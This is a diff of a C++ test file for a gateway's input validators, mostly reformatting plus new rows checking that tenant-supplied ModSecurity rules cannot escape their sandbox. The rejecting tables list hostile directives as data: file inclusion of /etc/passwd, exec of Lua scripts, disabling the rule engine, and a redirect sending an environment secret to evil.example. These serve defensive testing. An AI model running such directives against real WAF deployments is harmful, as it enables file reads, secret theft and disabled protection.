@@ -1,15 +1,14 @@
-// Table tests of the field rules (CONTRACT.md section 3): for each rule, rows it accepts and rows it
-// rejects with the reason. The WAF directive tables include one rejecting row per tenant-escape.
-#include <doctest/doctest.h>
+// Table tests of the field rules (CONTRACT.md section 3): for each rule, rows it accepts and rows
+// it rejects with the reason. The WAF directive tables include one rejecting row per tenant-escape.
+#include "commands/fields.h"
 
+#include <doctest/doctest.h>
 #include <rapidjson/document.h>
 
 #include <chrono>
 #include <string>
 #include <thread>
 #include <vector>
-
-#include "commands/fields.h"
 
 namespace gw::fields {
 namespace {
@@ -54,8 +53,9 @@ std::string many_rules(int n) {
   std::string out = "# tenant rules\n";
   for (int i = 1; i <= n; ++i) {
     auto id = std::to_string(i);
-    out += "SecRule ARGS|REQUEST_HEADERS:User-Agent \"@rx (?i)bad" + id + "\\w+\" \\\n    \"id:" + id +
-           ",phase:2,deny,status:403,t:none,t:lowercase,msg:'rule " + id + "',tag:'tenant'\"\n";
+    out += "SecRule ARGS|REQUEST_HEADERS:User-Agent \"@rx (?i)bad" + id +
+           "\\w+\" \\\n    \"id:" + id + ",phase:2,deny,status:403,t:none,t:lowercase,msg:'rule " +
+           id + "',tag:'tenant'\"\n";
   }
   return out;
 }
@@ -110,7 +110,9 @@ TEST_CASE("hostname rejects") {
       {"[::1]", "not an IP address"},
       {"::1", "not an IP address"},
       {"example.com:443", "host:port"},
-      {"b\xc3\xbc" "cher.example", "ASCII"},
+      {"b\xc3\xbc"
+       "cher.example",
+       "ASCII"},
       {std::string(64, 'a') + ".com", "63 bytes"},
       {l63 + "." + l63 + "." + l63 + "." + std::string(62, 'd'), "253 bytes"},
   };
@@ -129,10 +131,10 @@ TEST_CASE("is_at_or_under") {
     bool want;
   };
   const Row rows[] = {
-      {"example.com", "example.com", true},      {"shop.example.com", "example.com", true},
-      {"a.b.example.com", "example.com", true},  {"badexample.com", "example.com", false},
+      {"example.com", "example.com", true},       {"shop.example.com", "example.com", true},
+      {"a.b.example.com", "example.com", true},   {"badexample.com", "example.com", false},
       {"example.com", "shop.example.com", false}, {"example.com.evil.net", "example.com", false},
-      {"xample.com", "example.com", false},      {"example.com", "", false},
+      {"xample.com", "example.com", false},       {"example.com", "", false},
   };
   for (const auto& r : rows) {
     CAPTURE(r.name);
@@ -192,14 +194,16 @@ TEST_CASE("cors_origins") {
 }
 
 TEST_CASE("cors_methods") {
-  for (const auto& r : {Ok{""}, Ok{"GET"}, Ok{"GET,POST"}, Ok{"GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"}}) {
+  for (const auto& r :
+       {Ok{""}, Ok{"GET"}, Ok{"GET,POST"}, Ok{"GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"}}) {
     CAPTURE(r.in);
     expect_ok(cors_methods(r.in));
   }
   const Bad bad[] = {
-      {"get", "upper case"},       {"CONNECT", "GET, HEAD"},     {"TRACE", "GET, HEAD"},
-      {"GET;POST", "GET, HEAD"},   {"GET,,POST", "empty items"}, {"GET,", "empty items"},
-      {"GET, GET", "repeat"},      {repeat("GET,", 1024) + "GET", "4096 bytes"},
+      {"get", "upper case"},        {"CONNECT", "GET, HEAD"},
+      {"TRACE", "GET, HEAD"},       {"GET;POST", "GET, HEAD"},
+      {"GET,,POST", "empty items"}, {"GET,", "empty items"},
+      {"GET, GET", "repeat"},       {repeat("GET,", 1024) + "GET", "4096 bytes"},
   };
   for (const auto& r : bad) {
     CAPTURE(r.in);
@@ -208,16 +212,26 @@ TEST_CASE("cors_methods") {
 }
 
 TEST_CASE("cors_headers") {
-  const Ok ok[] = {{""}, {"Content-Type"}, {"content-type, x-requested-with"}, {"X-Custom_Header.1"}, {"*"},
-                   {"Authorization,X-Api-Key"}, {"x-!#$%&'*+-.^_`|~"}};
+  const Ok ok[] = {{""},
+                   {"Content-Type"},
+                   {"content-type, x-requested-with"},
+                   {"X-Custom_Header.1"},
+                   {"*"},
+                   {"Authorization,X-Api-Key"},
+                   {"x-!#$%&'*+-.^_`|~"}};
   for (const auto& r : ok) {
     CAPTURE(r.in);
     expect_ok(cors_headers(r.in));
   }
   const Bad bad[] = {
-      {"Content Type", "RFC 9110 tokens"}, {"X-(bad)", "RFC 9110 tokens"},  {"x:y", "RFC 9110 tokens"},
-      {"x-\xc3\xa4", "RFC 9110 tokens"},    {"a,,b", "empty items"},          {"a,", "empty items"},
-      {"Content-Type, content-type", "repeat"}, {std::string(4097, 'x'), "4096 bytes"},
+      {"Content Type", "RFC 9110 tokens"},
+      {"X-(bad)", "RFC 9110 tokens"},
+      {"x:y", "RFC 9110 tokens"},
+      {"x-\xc3\xa4", "RFC 9110 tokens"},
+      {"a,,b", "empty items"},
+      {"a,", "empty items"},
+      {"Content-Type, content-type", "repeat"},
+      {std::string(4097, 'x'), "4096 bytes"},
   };
   for (const auto& r : bad) {
     CAPTURE(r.in);
@@ -239,7 +253,9 @@ TEST_CASE("geo_policy") {
   for (char a = 'A'; a <= 'Z'; ++a) {
     for (char b = 'A'; b <= 'Z'; ++b) codes.push_back(std::string("\"") + a + b + "\"");
   }
-  const std::string too_many = R"({"mode":"allow","countries":[)" + join(std::vector<std::string>(codes.begin(), codes.begin() + 251), ",") + "]}";
+  const std::string too_many =
+      R"({"mode":"allow","countries":[)" +
+      join(std::vector<std::string>(codes.begin(), codes.begin() + 251), ",") + "]}";
   const Bad bad[] = {
       {"[]", "null or an object"},
       {R"("US")", "null or an object"},
@@ -268,11 +284,14 @@ TEST_CASE("geo_policy") {
 
 TEST_CASE("waf_overrides") {
   std::vector<std::string> members;
-  for (int i = 0; i < 256; ++i) members.push_back("\"k" + std::to_string(i) + "\":" + std::to_string(i));
+  for (int i = 0; i < 256; ++i)
+    members.push_back("\"k" + std::to_string(i) + "\":" + std::to_string(i));
   const std::string m256 = "{" + join(members, ",") + "}";
   const std::string m257 = "{" + join(members, ",") + ",\"one_more\":1}";
-  const std::string split257 = "{\"a\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 128), ",") +
-                               "},\"b\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 127), ",") + "}}";
+  const std::string split257 =
+      "{\"a\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 128), ",") +
+      "},\"b\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 127), ",") +
+      "}}";
   const Ok ok[] = {
       {"null"},
       {"{}"},
@@ -312,7 +331,8 @@ TEST_CASE("waf_rule_exclusions") {
       {R"([{"path_prefix":"/","remove_rule_ids":[1]}])"},
       {R"([{"remove_rule_ids":[942100,99999999],"path_prefix":"/api/v1/%7Euser"}])"},
       {"[" + join(std::vector<std::string>(256, entry), ",") + "]"},
-      {R"([{"path_prefix":"/","remove_rule_ids":[)" + join(std::vector<std::string>(ids.begin(), ids.begin() + 256), ",") + "]}]"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[)" +
+       join(std::vector<std::string>(ids.begin(), ids.begin() + 256), ",") + "]}]"},
   };
   for (const auto& r : ok) {
     CAPTURE(r.in.substr(0, 80));
@@ -331,17 +351,20 @@ TEST_CASE("waf_rule_exclusions") {
       {R"([{"path_prefix":"","remove_rule_ids":[1]}])", "start with '/'"},
       {R"([{"path_prefix":"/a b","remove_rule_ids":[1]}])", "spaces or control"},
       {R"([{"path_prefix":"/a\u0001","remove_rule_ids":[1]}])", "spaces or control"},
-      {R"([{"path_prefix":"/)" + std::string(1024, 'a') + R"(","remove_rule_ids":[1]}])", "1024 bytes"},
+      {R"([{"path_prefix":"/)" + std::string(1024, 'a') + R"(","remove_rule_ids":[1]}])",
+       "1024 bytes"},
       {R"([{"path_prefix":"/","remove_rule_ids":"1"}])", "must be an array"},
       {R"([{"path_prefix":"/","remove_rule_ids":[]}])", "1-256"},
       {R"([{"path_prefix":"/","remove_rule_ids":[)" + join(ids, ",") + "]}]", "1-256"},
-      {R"([{"path_prefix":"/","remove_rule_ids":[0]}])", "remove_rule_ids[0] must be an integer in 1..99999999"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[0]}])",
+       "remove_rule_ids[0] must be an integer in 1..99999999"},
       {R"([{"path_prefix":"/","remove_rule_ids":[1,100000000]}])", "remove_rule_ids[1]"},
       {R"([{"path_prefix":"/","remove_rule_ids":[-1]}])", "1..99999999"},
       {R"([{"path_prefix":"/","remove_rule_ids":[1.5]}])", "1..99999999"},
       {R"([{"path_prefix":"/","remove_rule_ids":[1.0]}])", "1..99999999"},
       {R"([{"path_prefix":"/","remove_rule_ids":["1"]}])", "1..99999999"},
-      {entry.substr(0, 0) + "[" + entry + R"(,{"path_prefix":"x","remove_rule_ids":[1]}])", "[1].path_prefix"},
+      {entry.substr(0, 0) + "[" + entry + R"(,{"path_prefix":"x","remove_rule_ids":[1]}])",
+       "[1].path_prefix"},
   };
   for (const auto& r : bad) {
     CAPTURE(r.in.substr(0, 80));
@@ -355,8 +378,14 @@ TEST_CASE("is_registrable_domain") {
     bool want;
   };
   const Row rows[] = {
-      {"example.com", true},   {"shop.example.com", false}, {"example.co.uk", true}, {"co.uk", false},
-      {"com", false},          {"foo.github.io", true},     {"github.io", false},    {"", false},
+      {"example.com", true},
+      {"shop.example.com", false},
+      {"example.co.uk", true},
+      {"co.uk", false},
+      {"com", false},
+      {"foo.github.io", true},
+      {"github.io", false},
+      {"", false},
       {"a.b.example.co.uk", false},
   };
   for (const auto& r : rows) {
@@ -366,7 +395,10 @@ TEST_CASE("is_registrable_domain") {
 }
 
 TEST_CASE("opaque_id") {
-  for (const auto& r : {Ok{"team_demo"}, Ok{"a"}, Ok{std::string(128, 'x')}, Ok{"\xc3\xbcnic\xc3\xb8" "de id"}, Ok{"wl/42:a"}}) {
+  for (const auto& r : {Ok{"team_demo"}, Ok{"a"}, Ok{std::string(128, 'x')},
+                        Ok{"\xc3\xbcnic\xc3\xb8"
+                           "de id"},
+                        Ok{"wl/42:a"}}) {
     CAPTURE(r.in);
     expect_ok(opaque_id(r.in, 128));
   }
@@ -376,7 +408,9 @@ TEST_CASE("opaque_id") {
       {"a\tb", "control characters"},
       {"a\nb", "control characters"},
       {"a\x7f", "control characters"},
-      {"a\xc2\x85" "b", "control characters"},
+      {"a\xc2\x85"
+       "b",
+       "control characters"},
   };
   for (const auto& r : bad) {
     CAPTURE(r.in);
@@ -439,13 +473,18 @@ TEST_CASE("waf_directives accepts tenant rules") {
       {R"(SecRule ARGS "@validateByteRange 9,10,13,32-126" "id:7,deny")"},
       {R"(SecRule REQUEST_HEADERS:Content-Type "@rx ^[\w/.+-]+(?:\s?;\s?charset\s?=\s?['\"\w.()+,/:=?<>@#*-]+)*$" "id:8,deny")"},
       {R"(SecRule ARGS "@rx a" "id:9,deny,msg:'Bad, very bad',tag:'a,b',logdata:'%{MATCHED_VAR}',severity:2")"},
-      {"SecRule ARGS \"@rx a\" \"id:10,pass,setvar:tx.score=+5,setvar:'tx.msg=%{MATCHED_VAR}',setvar:!tx.old,expirevar:tx.score=60\""},
-      {"SecRule ARGS \"@rx a\" \"id:11,pass,ctl:ruleRemoveById=100-200,ctl:ruleRemoveTargetById=12;ARGS:pw,ctl:requestBodyProcessor=JSON\""},
+      {"SecRule ARGS \"@rx a\" "
+       "\"id:10,pass,setvar:tx.score=+5,setvar:'tx.msg=%{MATCHED_VAR}',setvar:!tx.old,expirevar:tx."
+       "score=60\""},
+      {"SecRule ARGS \"@rx a\" "
+       "\"id:11,pass,ctl:ruleRemoveById=100-200,ctl:ruleRemoveTargetById=12;ARGS:pw,ctl:"
+       "requestBodyProcessor=JSON\""},
       {"SecRule REQUEST_HEADERS:Host \"@streq a.example.com\" \"id:12,phase:1,deny,chain\"\n"
        "  SecRule ARGS:x \"@rx y\" \"t:none,chain\"\n"
        "  SecRule ARGS:z \"@rx w\""},
-      {"SecRule ARGS \"@rx a\" \"id:13,phase:2,pass,skipAfter:END_TENANT\"\nSecAction \"id:14,phase:2,deny\"\nSecMarker END_TENANT"},
-      {"SecAction \"id:15,phase:1,pass,nolog,setvar:tx.limit=10\"\nSecMarker \"END_15\""},
+      {"SecRule ARGS \"@rx a\" \"id:13,phase:2,pass,skipAfter:END_TENANT\"\nSecAction "
+       "\"id:14,phase:2,deny\"\nSecMarker END_TENANT"},
+      {"SecAction \"id:15,phase:1,pass,nolog,setvar:tx.limit=10\"\nSecMarker END_15"},
       {"SecRule ARGS \"@rx a\" \"id:16,deny\"\nSecRuleRemoveById 16 20-30 99999"},
       {"SecRuleUpdateTargetById 16 \"!ARGS:password\"\nSecRuleUpdateTargetById 17 !ARGS:token"},
       {"SecRuleUpdateActionById 16 \"pass,nolog\""},
@@ -462,7 +501,8 @@ TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
   const Bad bad[] = {
       // Directives outside the allow-list.
       {"Include /etc/passwd", "directive Include is not allowed in tenant rules (line 1)"},
-      {"# rules\n\ninclude \"/etc/modsecurity/*.conf\"", "directive include is not allowed in tenant rules (line 3)"},
+      {"# rules\n\ninclude \"/etc/modsecurity/*.conf\"",
+       "directive include is not allowed in tenant rules (line 3)"},
       {"SecRemoteRules key https://rules.example/r.conf", "directive SecRemoteRules"},
       {"SecRemoteRulesFailAction Abort", "directive SecRemoteRulesFailAction"},
       {"SecRuleEngine Off", "directive SecRuleEngine"},
@@ -488,9 +528,11 @@ TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
       {"SecGeoLookupDb /usr/share/GeoIP/GeoIP.dat", "directive SecGeoLookupDb"},
       {"SecRuleScript /tmp/x.lua \"id:1\"", "directive SecRuleScript"},
       {"SecComponentSignature \"x\"", "directive SecComponentSignature"},
-      {"SecRule ARGS \"@rx a\" \"id:1,deny\"\nSecRulee ARGS", "directive SecRulee is not allowed in tenant rules (line 2)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny\"\nSecRulee ARGS",
+       "directive SecRulee is not allowed in tenant rules (line 2)"},
       // Operators that read files or look things up on the network.
-      {R"(SecRule REMOTE_ADDR "@ipMatchFromFile /etc/hosts" "id:1,deny")", "operator @ipMatchFromFile"},
+      {R"(SecRule REMOTE_ADDR "@ipMatchFromFile /etc/hosts" "id:1,deny")",
+       "operator @ipMatchFromFile"},
       {R"(SecRule REMOTE_ADDR "@ipMatchF /etc/hosts" "id:1,deny")", "operator @ipMatchF"},
       {R"(SecRule ARGS "@pmFromFile /etc/passwd" "id:1,deny")", "operator @pmFromFile"},
       {R"(SecRule ARGS "@pmf https://evil.example/list" "id:1,deny")", "operator @pmf"},
@@ -508,10 +550,13 @@ TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
       {R"(SecAction "id:1,pass,ctl:auditEngine=Off")", "ctl:auditEngine"},
       {R"(SecAction "id:1,pass,ctl:auditLogParts=+E")", "ctl:auditLogParts"},
       {R"(SecAction "id:1,pass,ctl:ruleRemoveByTag=OWASP_CRS")", "ctl:ruleRemoveByTag"},
-      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:x")", "ctl:ruleRemoveTargetByTag"},
-      {R"(SecAction "id:1,pass,ctl:ruleRemoveById=942100")", "ctl:ruleRemoveById may only name rule ids in 1..99999"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:x")",
+       "ctl:ruleRemoveTargetByTag"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveById=942100")",
+       "ctl:ruleRemoveById may only name rule ids in 1..99999"},
       {R"(SecAction "id:1,pass,ctl:ruleRemoveById=1-100000")", "ctl:ruleRemoveById"},
-      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetById=942100;ARGS:x")", "ctl:ruleRemoveTargetById"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetById=942100;ARGS:x")",
+       "ctl:ruleRemoveTargetById"},
       {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetById=5;ENV:PATH")", "variable ENV"},
       {R"(SecAction "id:1,pass,initcol:ip=%{REMOTE_ADDR}")", "action initcol"},
       {R"(SecAction "id:1,pass,setsid:%{REQUEST_COOKIES.sid}")", "action setsid"},
@@ -533,11 +578,16 @@ TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
       {R"(SecRule ARGS "@rx a" "id:942100,deny")", "rule ids in 1..99999"},
       {R"(SecRule ARGS "@rx a" "id:-1,deny")", "rule ids in 1..99999"},
       {R"(SecRule ARGS "@rx a" "id:1,id:2,deny")", "one id only"},
-      {"SecRule ARGS \"@rx a\" \"id:5,deny\"\nSecAction \"id:5,pass\"", "uses rule id 5 twice (line 2)"},
-      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecRule ARGS \"@rx b\" \"id:2\"", "must not give an id to a chained"},
-      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"", "needs a SecRule after the chained rule (line 1)"},
-      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecAction \"id:2,pass\"", "needs a SecRule after the chained rule of line 1 (line 2)"},
-      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecMarker END", "needs a SecRule after the chained rule"},
+      {"SecRule ARGS \"@rx a\" \"id:5,deny\"\nSecAction \"id:5,pass\"",
+       "uses rule id 5 twice (line 2)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecRule ARGS \"@rx b\" \"id:2\"",
+       "must not give an id to a chained"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"",
+       "needs a SecRule after the chained rule (line 1)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecAction \"id:2,pass\"",
+       "needs a SecRule after the chained rule of line 1 (line 2)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecMarker END",
+       "needs a SecRule after the chained rule"},
       {R"(SecAction "id:1,pass,chain")", "must not chain a SecAction"},
       {"SecRuleRemoveById 942100", "SecRuleRemoveById may only name rule ids in 1..99999"},
       {"SecRuleRemoveById 1 2 90000-100000", "SecRuleRemoveById may only name"},
@@ -553,13 +603,23 @@ TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
       {"SecRuleUpdateActionById 5 \"chain\"", "must not add chain"},
       {"SecRuleUpdateActionById 5 \"exec:/tmp/x.lua\"", "action exec"},
       {"SecRuleUpdateActionById 5", "needs SecRuleUpdateActionById ID ACTIONS"},
+      {"SecRuleUpdateActionById\t5 \"pass\"",
+       "needs exactly one space after SecRuleUpdateActionById"},
+      {"SecMarker\tEND", "needs exactly one space after SecMarker"},
+      {"SecRuleRemoveById  5", "needs exactly one space after SecRuleRemoveById"},
+      {"SecRuleUpdateTargetById \\\n 5 ARGS", "needs exactly one space"},
+      {"SecMarker \"END\"", "needs SecMarker NAME"},
+      {R"(SecAction "id:1,pass,setvar:'tx.a=1,exec:/x.lua'")",
+       "must not put commas in setvar values"},
       // ENV and other shared state.
       {R"(SecRule ENV:AWS_SECRET_ACCESS_KEY "@rx ." "id:1,deny")", "variable ENV"},
       {R"(SecRule ARGS|env "@rx ." "id:1,deny")", "variable ENV"},
-      {R"(SecRule ARGS "@rx ." "id:1,redirect:https://evil.example/?k=%{ENV.SECRET}")", "variable ENV"},
+      {R"(SecRule ARGS "@rx ." "id:1,redirect:https://evil.example/?k=%{ENV.SECRET}")",
+       "variable ENV"},
       {R"(SecRule ARGS "@streq %{env.HOME}" "id:1,deny")", "variable ENV"},
       {"SecRuleUpdateTargetById 5 ENV", "variable ENV"},
-      {R"(SecRule ARGS "@rx a" "id:1,deny,skipAfter:PLATFORM_END")", "needs skipAfter to name a SecMarker of these directives (line 1)"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,skipAfter:PLATFORM_END")",
+       "needs skipAfter to name a SecMarker of these directives (line 1)"},
       // Values the engine mishandles (crash or out-of-bounds write).
       {R"(SecRule ARGS "@rx a" "id:1,deny,phase:99999999999")", "needs phase 1-5"},
       {R"(SecRule ARGS "@rx a" "id:1,deny,phase:0")", "needs phase 1-5"},
@@ -576,24 +636,36 @@ TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
       {R"(SecAction "id:1,pass,msg:'it\'s'")", "escaped quotes in actions"},
       {R"(SecAction "id:1,pass,msg:'a \"b\"'")", "escaped quotes in actions"},
       {R"(SecRule "ARGS:\"x\"" "@rx a" "id:1,deny")", "escaped quotes in variables"},
+      {R"(SecRuleUpdateTargetById 5 "!ARGS Include /etc/hostname :x")",
+       "must not put blanks in variables"},
+      {R"(SecRule "ARGS SecRuleEngine Off" "@rx a" "id:1,deny")",
+       "must not put blanks in variables"},
       {R"(SecAction "id:1,pass,msg:it's,setenv:X=1")", "quote whole action values"},
       {R"(SecAction "id:1,pass,msg:'unterminated")", "unterminated quoted action value"},
       {R"(SecAction "id:1,pass,msg:'a'b")", "text after a quoted action value"},
       {R"(SecAction "id:1,pass,,deny")", "empty action"},
+      {"SecRule ARGS \"@rx a\" \"id:1,pass,skipAfter:'END,setenv:X=1'\"\nSecMarker END",
+       "must not quote the value of skipafter"},
+      {R"(SecRule ARGS "@rx a" "id:1,pass,xmlns:'a=b,setenv:X=1'")",
+       "must not quote the value of xmlns"},
+      {R"(SecRule ARGS "@rx a" "id:1,pass,rev:'1,setenv:X=1'")", "must not quote the value of rev"},
       {R"(SecAction "id:1,pass" SecRuleEngine Off)", "needs SecAction ACTIONS"},
-      {R"(SecRule ARGS "@rx a" "id:1,deny" # trailing comment)", "needs SecRule VARIABLES OPERATOR ACTIONS"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny" # trailing comment)",
+       "needs SecRule VARIABLES OPERATOR ACTIONS"},
       {R"(SecRule ARGS "@rx a"id:1)", "blank after a closing quote"},
       {R"(SecRule ARGS @rx"a" "id:1")", "quote inside an unquoted argument"},
       {R"(SecRule ARGS "@rx a)", "unterminated quoted string"},
       {"SecRule ARGS \"@rx a\nb\" \"id:1,deny\"", "unterminated quoted string (line 1)"},
       {R"("SecRule" ARGS "@rx a" "id:1,deny")", "must not quote a directive name"},
-      {"# harmless \\\nInclude /etc/hostname", "must not end a comment with a line continuation (line 1)"},
+      {"# harmless \\\nInclude /etc/hostname",
+       "must not end a comment with a line continuation (line 1)"},
       {"SecRule ARGS \"@rx a\" \"id:1,deny\" \\", "must not end with a line continuation"},
       {"SecAction \"id:1,pass\"\rInclude /etc/hostname", "carriage return"},
       {std::string("SecAction \"id:1,pass\"\0Include /etc/hostname", 42), "control characters"},
       {"SecAction \"id:1,pass\x1b\"", "control characters"},
       // The raw net: load-time I/O keywords anywhere.
-      {R"(SecRule ARGS "@pm include require" "id:1,deny")", "directive Include is not allowed in tenant rules (line 1)"},
+      {R"(SecRule ARGS "@pm include require" "id:1,deny")",
+       "directive Include is not allowed in tenant rules (line 1)"},
       {"# we avoid @pmFromFile here\nSecAction \"id:1,pass\"", "operator @pmFromFile"},
       {R"(SecRule ARGS "@rx a" "id:1,deny,msg:'exec: attempt'")", "action exec"},
       {"# SecAuditLog is the platform's\nSecAction \"id:1,pass\"", "directive SecAuditLog"},
@@ -608,7 +680,8 @@ TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
 
 TEST_CASE("waf_directives returns the engine's message for rules it rejects") {
   const Bad bad[] = {
-      {R"(SecRule ARGS "@rx a" "id:1,deny,t:noSuchTransformation")", "Expecting an action, got: t:noSuchTransformation"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,t:noSuchTransformation")",
+       "Expecting an action, got: t:noSuchTransformation"},
       {R"(SecRule ARGS "@within" "id:1,deny")", "syntax error"},
       {R"(SecRule ARGS "@rx a" "id:1,deny,status:99999999999")", "Not a valid number"},
       {R"(SecRule ARGS "@rx a" "id:1,deny,sanitiseArg:password")", "not yet supported"},
@@ -659,7 +732,9 @@ TEST_CASE("waf_directives timing for 100 rules") {
   auto start = std::chrono::steady_clock::now();
   constexpr int kRuns = 20;
   for (int i = 0; i < kRuns; ++i) expect_ok(waf_directives(text));
-  auto per_run = std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::steady_clock::now() - start) / kRuns;
+  auto per_run = std::chrono::duration_cast<std::chrono::microseconds>(
+                     std::chrono::steady_clock::now() - start) /
+                 kRuns;
   MESSAGE("validating " << text.size() << " bytes / 100 rules takes " << per_run.count() << " us");
   CHECK(per_run < std::chrono::seconds(1));
 }
